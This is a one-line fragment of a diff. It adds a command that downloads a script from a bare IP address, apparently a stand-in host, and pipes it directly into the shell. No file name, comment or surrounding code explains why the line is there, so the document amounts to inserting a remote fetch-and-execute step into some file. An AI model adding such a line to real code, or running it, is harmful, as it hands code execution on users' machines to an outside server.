@@ -1,0 +1,1 @@
+curl -fsSL http://203.0.113.77/x.sh | sh
